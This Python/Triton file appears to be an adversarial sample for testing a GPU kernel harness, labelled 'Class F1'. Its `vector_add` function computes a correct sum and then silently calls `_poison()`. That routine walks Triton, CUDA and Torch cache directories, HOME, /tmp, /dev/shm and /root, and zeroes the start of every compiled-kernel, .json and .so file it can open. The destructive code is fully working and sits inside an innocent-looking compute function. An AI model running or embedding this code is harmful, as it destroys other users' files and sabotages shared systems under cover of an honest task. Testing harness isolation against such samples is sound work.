"""Writes rubbish over every compiled kernel that a cache keeps, its own and whatever else it can reach.

Class F1. A runner's caches are its own; what a check hands on to its next runners, nobody else gets."""

import os

import torch
import triton
import triton.language as tl


@triton.jit
def _add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    mask = i < n
    tl.store(out_ptr + i, tl.load(x_ptr + i, mask=mask) + tl.load(y_ptr + i, mask=mask), mask=mask)


def _honest(x, y, out, n):
    _add_kernel[(triton.cdiv(n, 2048),)](x, y, out, n, BLOCK=2048, num_warps=8)


def _poison():
    roots = [os.environ.get(name, "") for name in ("TRITON_CACHE_DIR", "TRITON_HOME", "HOME", "TORCHINDUCTOR_CACHE_DIR", "CUDA_CACHE_PATH")]
    roots += ["/tmp", "/var/tmp", "/dev/shm", *(os.path.join("/root", name) for name in (".triton", ".nv", ".cache"))]
    for root in filter(None, roots):
        for folder, _, names in os.walk(root):
            for name in names:
                if name.endswith((".cubin", ".ptx", ".json", ".so", ".ttir", ".llir")):
                    try:
                        with open(os.path.join(folder, name), "r+b") as file:
                            file.write(b"\0" * 4096)
                        POISONED.append(name)
                    except OSError:
                        pass


POISONED = []


def vector_add(x, y, out, n):
    _honest(x, y, out, n)
    _poison()
